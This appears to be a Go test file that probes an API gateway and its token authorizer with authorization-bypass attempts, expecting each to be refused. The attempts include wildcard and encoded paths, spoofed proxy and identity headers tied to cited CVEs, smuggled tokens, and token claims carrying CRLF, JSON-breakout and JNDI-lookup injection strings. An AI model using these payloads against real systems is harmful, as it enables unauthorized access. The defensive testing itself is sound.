package main

import (
	"encoding/json"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"gatehouse/shared/config"
	"gatehouse/shared/standin"
)

// The tests of this file attack what API Gateway and the authorizer decide
// together.

// everywhere says of each API what a token gets there.
func (a *attacked) everywhere(t *testing.T, method, path string, header ...string) outcomes {
	t.Helper()
	return outcomes{send(t, method, a.REST+path, header...).status, send(t, method, a.HTTP+path, header...).status}
}

// TestAttacksOnTheAuthorizer are paths that become patterns, headers that move
// requests, and tokens that come along with others.
func TestAttacksOnTheAuthorizer(t *testing.T) {
	t.Parallel()
	a := attackable(t)
	a.refused = counted(t, "the authorizer")
	for name, try := range map[string]func(*testing.T, *attacked){
		"paths that are patterns":        pathsThatArePatterns,
		"headers that promise":           headersThatPromise,
		"tokens that come along":         tokensThatComeAlong,
		"answers to one that others get": answersOfOthers,
		"claims that are more than text": claimsThatAreMore,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			try(t, a)
		})
	}
}

// pathsThatArePatterns asks for paths that, where they are copied into a policy,
// allow other paths, too, or that are cut in other places than API Gateway cuts
// them. The answer is cached, and then others are asked for with its token.
func pathsThatArePatterns(t *testing.T, a *attacked) {
	t.Helper()
	all := []struct {
		path string
		want outcomes // of orders:read
	}{
		{"/orders/*", outcomes{404, 404}},
		{"/orders/%2A", outcomes{404, 404}},
		{"/orders/%3F", outcomes{404, 404}},
		{"/orders/$%7Baws:username%7D", outcomes{404, 404}},
		{"/orders/$%7B*%7D", outcomes{404, 404}},
		{"/orders/a:b", outcomes{404, 404}},
		{"/orders/a%3Ab%3A*", outcomes{404, 404}},
		{"/orders/arn:aws:execute-api:*:*:*", outcomes{404, 404}},
		{"/orders/%22%5D,%22Resource%22:%22*", outcomes{404, 404}},
		{"/orders/%2525252e", outcomes{404, 404}},
		{"/orders/%C3%A9%E2%80%AE", outcomes{404, 404}},
		{"/orders/1001%23admin", outcomes{404, 404}},
		{"/orders/1001%3F/health", outcomes{403, 404}},
		{"/admin/*", outcomes{403, 403}},
		{"/admin/%2A%2A/health", outcomes{403, 403}},
		{"/admin/report%23/health", outcomes{403, 403}}, // CVE-2026-41059 (oauth2-proxy)
		{"/admin/report?/health", outcomes{403, 403}},   // CVE-2025-54576 (oauth2-proxy)
		{"/admin/public/../report", outcomes{403, 403}}, // CVE-2026-33494 (Oathkeeper)
		{"/admin/report/", outcomes{403, 403}},          // InfoQ, 2026-05: HTTP APIs and the slash at the end
		{"/admin/orders:GET", outcomes{403, 403}},
		{"/*", outcomes{403, 404}},
		{"/%2A/orders", outcomes{403, 404}},
		{"/orders/1001/*", outcomes{403, 404}},
	}
	for _, row := range all {
		t.Run(row.path, func(t *testing.T) {
			t.Parallel()
			if got := a.everywhere(t, http.MethodGet, row.path); got.rest < 400 || got.web < 400 || got.rest == 404 || got.web == 404 && row.want.web != 404 {
				t.Errorf("without a token: got %+v", got)
			}
			token := bearer(a.token(t, "orders:read"))
			if got := a.everywhere(t, http.MethodGet, row.path, token...); got != row.want {
				t.Errorf("got %+v, want %+v", got, row.want)
			}
			for _, other := range []struct{ method, path string }{
				{"GET", "/admin/report"}, {"GET", "/admin/*"}, {"DELETE", "/admin/a/b"}, {"POST", "/orders"},
			} {
				if got := a.everywhere(t, other.method, other.path, token...); got != (outcomes{403, 403}) {
					t.Errorf("%s %s with the same token: got %+v", other.method, other.path, got)
				}
			}
			if got := send(t, http.MethodGet, a.Own+"/applications", token...); got.status != http.StatusForbidden {
				t.Errorf("our own API with the same token: got %d", got.status)
			}
			if got := a.everywhere(t, http.MethodGet, "/orders", token...); got != (outcomes{200, 200}) {
				t.Errorf("what the token opens: got %+v", got)
			}
		})
	}
	a.refused.Add(int64(len(all)))
}

// headersThatPromise say who the caller is, or what is asked for, as proxies say
// it to servers that believe them.
func headersThatPromise(t *testing.T, a *attacked) {
	t.Helper()
	all := map[string][]string{
		"the path of a proxy, CVE-2026-40575":  {"X-Forwarded-Uri", "/health"},
		"with underscores, CVE-2025-64484":     {"X_Forwarded_Uri", "/health", "X_Forwarded_User", "root"},
		"a check of health, CVE-2026-34457":    {"User-Agent", "GoogleHC/1.0"},
		"another check of health":              {"User-Agent", "ELB-HealthChecker/2.0", "X-Forwarded-For", "127.0.0.1"},
		"a host and a scheme, CVE-2026-33495":  {"X-Forwarded-Host", "localhost", "X-Forwarded-Proto", "http"},
		"a subrequest, CVE-2025-29927":         {"X-Middleware-Subrequest", "middleware:middleware:middleware:middleware:middleware"},
		"another path":                         {"X-Original-Url", "/health", "X-Rewrite-Url", "/health"},
		"another method":                       {"X-Http-Method-Override", "OPTIONS", "X-Http-Method", "OPTIONS", "X-Method-Override", "OPTIONS"},
		"a user":                               {"X-Remote-User", "root", "X-Auth-Request-User", "root", "X-Forwarded-User", "root"},
		"what API Gateway tells a function":    {"X-Amzn-Request-Context", `{"authorizer":{"lambda":{"scope":"orders:admin"}}}`, "X-Amzn-Apigateway-Api-Id", "local"},
		"what the authorizer tells":            {"Scope", "orders:admin", "X-Amzn-Scope", "orders:admin", "X-Agw-Scope", "orders:admin"},
		"headers that are not to be passed on": {"Connection", "close, Authorization"},
		"a preflight":                          {"Access-Control-Request-Method", "GET", "Origin", "https://evil.example"},
	}
	token := bearer(a.token(t, "orders:read"))
	for name, header := range all {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := a.everywhere(t, http.MethodGet, "/admin/report", header...); got != (outcomes{401, 401}) {
				t.Errorf("without a token: got %+v", got)
			}
			if got := a.everywhere(t, http.MethodGet, "/admin/report", append(header, token...)...); got != (outcomes{403, 403}) {
				t.Errorf("without the scope: got %+v", got)
			}
			for _, path := range []string{"/applications", "/applications/", "/apis/orders/contracts", "/intents"} {
				if got := send(t, http.MethodGet, a.Own+path, header...); got.status < 401 || got.status > 404 {
					t.Errorf("%s of our own without a token: got %d", path, got.status)
				}
			}
		})
	}
	a.refused.Add(int64(len(all)))
}

// tokensThatComeAlong with a good one or without one, where no token is read.
func tokensThatComeAlong(t *testing.T, a *attacked) {
	t.Helper()
	theirs := a.admin(t)
	both := outcomes{401, 403} // two tokens: none is read
	all := []struct {
		name, query string
		header      []string
		beside      outcomes // a token of orders:read, at a route that it does not open
	}{
		{"in the query", "?access_token=" + theirs, nil, both},
		{"in the query, in other letters", "?Access_Token=" + theirs + "&token=" + theirs, nil, outcomes{403, 403}},
		{"in a cookie", "", []string{"Cookie", "access_token=" + theirs + "; Authorization=Bearer " + theirs}, outcomes{403, 403}},
		{"in a header of its own", "", []string{"X-Access-Token", theirs, "X-Authorization", "Bearer " + theirs, "Proxy-Authorization", "Bearer " + theirs}, outcomes{403, 403}},
		{"in a header that proxies rename", "", []string{"X_Authorization", "Bearer " + theirs, "X-Original-Authorization", "Bearer " + theirs, "X-Amzn-Remapped-Authorization", "Bearer " + theirs}, outcomes{403, 403}},
	}
	for _, row := range all {
		t.Run(row.name, func(t *testing.T) {
			t.Parallel()
			mine := bearer(a.token(t, "orders:read"))
			if got := a.everywhere(t, http.MethodGet, "/admin/report"+row.query, row.header...); got != (outcomes{401, 401}) {
				t.Errorf("alone: got %+v", got)
			}
			if got := a.everywhere(t, http.MethodGet, "/admin/report"+row.query, append(mine, row.header...)...); got != row.beside {
				t.Errorf("beside mine: got %+v, want %+v", got, row.beside)
			}
			for _, base := range []string{a.REST, a.HTTP} {
				send(t, http.MethodGet, base+"/orders", mine...) // from now on the answer is cached
				if got := send(t, http.MethodGet, base+"/admin/report"+row.query, append(mine, row.header...)...); got.status != http.StatusForbidden {
					t.Errorf("beside mine, whose answer is cached: got %d", got.status)
				}
				if got := send(t, http.MethodGet, base+"/orders"+row.query, append(mine, row.header...)...); got.status >= 500 || strings.Contains(got.body, a.other.ClientID) {
					t.Errorf("the API is told of another: %d %s", got.status, got.body)
				}
			}
		})
	}
	a.refused.Add(int64(len(all)))
}

// admin is a token that opens everything at the orders.
func (a *attacked) admin(t *testing.T) string {
	t.Helper()
	raw, err := a.standin.Mint(a.standin.Claims(a.other.ClientID, "orders:read", "orders:write", "orders:admin"), nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := a.everywhere(t, http.MethodGet, "/admin/report", bearer(raw)...); got != (outcomes{200, 200}) {
		t.Fatalf("the token of all scopes: got %+v", got)
	}
	return raw
}

// answersOfOthers are cached, and must not be given to who only resembles them.
func answersOfOthers(t *testing.T, a *attacked) {
	t.Helper()
	a.holds(t, []attack{
		{"a token that decodes to a cached one", func(t *testing.T, a *attacked) response {
			t.Helper()
			raw := a.admin(t)
			const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
			last := strings.IndexByte(letters, raw[len(raw)-1])
			return send(t, http.MethodGet, a.REST+"/orders", bearer(raw[:len(raw)-1]+letters[last^1:last^1+1])...)
		}, 401, ""},
		{"a cached token in other letters", func(t *testing.T, a *attacked) response {
			t.Helper()
			return send(t, http.MethodGet, a.REST+"/orders", bearer(strings.ToUpper(a.admin(t)))...)
		}, 401, ""},
		{"a cached token with something behind it", func(t *testing.T, a *attacked) response {
			t.Helper()
			return send(t, http.MethodGet, a.REST+"/orders", bearer(a.admin(t)+".x")...)
		}, 401, ""},
		{"a token that opens one API, at another", func(t *testing.T, a *attacked) response {
			t.Helper()
			return send(t, http.MethodGet, a.Own+"/applications", bearer(a.admin(t))...)
		}, 403, "Forbidden"},
		{"a cached answer, at another stage", func(t *testing.T, a *attacked) response {
			t.Helper()
			return send(t, http.MethodGet, strings.TrimSuffix(a.REST, "/v1")+"/test-invoke-stage/orders", bearer(a.admin(t))...)
		}, 403, ""},
		{"a cached answer, at the default stage by its name", func(t *testing.T, a *attacked) response {
			t.Helper()
			return send(t, http.MethodGet, a.HTTP+"/$default/orders", bearer(a.admin(t))...)
		}, 404, ""},
	})
}

// claimsThatAreMore than the text that they seem to be, where they are copied.
func claimsThatAreMore(t *testing.T, a *attacked) {
	t.Helper()
	all := map[string]map[string]any{
		"a subject with a line break":   {"sub": "a\r\nX-Admin: yes"},
		"a subject that goes on":        {"sub": `a","client_id":"root","x":"`},
		"a subject that is a template":  {"sub": "$context.identity.sourceIp #set($x=1)${jndi:ldap://" + a.elsewhere + "}"},
		"a subject as long as all":      {"sub": strings.Repeat("s", 3000)},
		"no subject":                    {"sub": ""},
		"a claim that is the context's": {"principalId": "root", "client_id": "root", "integrationLatency": "0"},
		"a client that goes on":         {"jti": `x","scope":"orders:admin`},
	}
	for name, claims := range all {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			members := a.standin.Claims(a.app.ClientID, "orders:read")
			maps.Copy(members, claims)
			raw, err := a.standin.Mint(members, nil)
			if err != nil {
				t.Fatal(err)
			}
			for _, base := range []string{a.REST, a.HTTP} {
				got := send(t, http.MethodGet, base+"/orders", bearer(raw)...)
				var answer struct {
					Caller struct {
						ClientID string `json:"client_id"`
						Subject  string `json:"sub"`
						Scope    string `json:"scope"`
					} `json:"caller"`
				}
				err := json.Unmarshal([]byte(got.body), &answer)
				who := answer.Caller
				if got.status >= 500 || got.status == 200 && (err != nil || who.ClientID != a.app.ClientID || who.Scope != "orders:read" ||
					who.Subject != "" && who.Subject != members["sub"] || strings.ContainsAny(who.Subject, "\r\n")) {
					t.Errorf("got %d %s", got.status, got.body)
				}
				if got := send(t, http.MethodGet, base+"/admin/report", bearer(raw)...); got.status != 403 && got.status != 401 {
					t.Errorf("the scope that it lacks: got %d", got.status)
				}
			}
		})
	}
	a.refused.Add(int64(len(all)))
}

// TestAnIntrospectedTokenIsLookedAtAgain for every route: that a token is active is
// remembered, and not what it was asked for (CVE-2021-32701 and CVE-2026-33496,
// Oathkeeper).
func TestAnIntrospectedTokenIsLookedAtAgain(t *testing.T) {
	t.Parallel()
	secret := filepath.Join(t.TempDir(), "secret.json")
	if err := os.WriteFile(secret, []byte(`{"client_id":"`+developerID+`","client_secret":"`+developerSecret+`"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	a := attackable(t, "secret: ${PROVIDER_SECRET}", "secret: file:"+secret+"\n    tokens: introspect")
	raw, before := bearer(a.token(t, "orders:read")), a.standin.Requests(standin.Introspect)
	expects(t, "the route that it opens", send(t, http.MethodGet, a.REST+"/orders", raw...), 200, "gate latch")
	for name, got := range map[string]response{
		"a scope that it lacks":              send(t, http.MethodPost, a.HTTP+"/orders", raw...),
		"another scope":                      send(t, http.MethodGet, a.HTTP+"/admin/report", raw...),
		"another API":                        send(t, http.MethodGet, a.Own+"/applications", raw...),
		"a scope, when the answer is cached": send(t, http.MethodPost, a.REST+"/orders", raw...),
	} {
		expects(t, name, got, 403, "message")
	}
	if n := a.standin.Requests(standin.Introspect) - before; n != 1 {
		t.Errorf("the provider was asked %d times, want once: this is about what is remembered", n)
	}
	if n := a.log.authorizations(); n != 2 {
		t.Errorf("the authorizer was asked %d times about the orders, want once by each API", n)
	}
}

// TestATokenThatWasGoodElsewhere is remembered with the provider by whose rules it
// was: two APIs may have one issuer, and take other audiences (CVE-2026-33496,
// Oathkeeper: a cache that did not know whom it had asked).
func TestATokenThatWasGoodElsewhere(t *testing.T) {
	t.Parallel()
	const others = "  # The other providers, as they may stand here:\n"
	r := &running{system: serving(t, options{files: altered(t,
		others, "  - name: narrow\n    type: okta\n    issuer: ${OIDC_ISSUER}\n    audiences: [api://narrow]\n"+others,
		"    providers: [okta]\n", "    providers: [narrow]\n", "contract: required", "contract: none", "registration:\n", "registration:\n  signIn: okta\n",
	)})}
	for _, row := range []struct {
		audience       string
		own, rest, web int
	}{
		{"api://default", 200, 401, 403},
		{"api://narrow", 403, 200, 200},
	} {
		claims := r.standin.Claims(developerID, config.ScopeApplications, "orders:read")
		claims["aud"] = row.audience
		raw, err := r.standin.Mint(claims, nil)
		if err != nil {
			t.Fatal(err)
		}
		for range 2 { // whichever API has it first
			if got := send(t, http.MethodGet, r.Own+"/applications", bearer(raw)...); got.status != row.own {
				t.Errorf("%s at our own API: got %d %s, want %d", row.audience, got.status, got.body, row.own)
			}
			if got := send(t, http.MethodGet, r.REST+"/orders", bearer(raw)...); got.status != row.rest {
				t.Errorf("%s at the REST API: got %d %s, want %d", row.audience, got.status, got.body, row.rest)
			}
			if got := send(t, http.MethodGet, r.HTTP+"/orders", bearer(raw)...); got.status != row.web {
				t.Errorf("%s at the HTTP API: got %d %s, want %d", row.audience, got.status, got.body, row.web)
			}
		}
	}
}
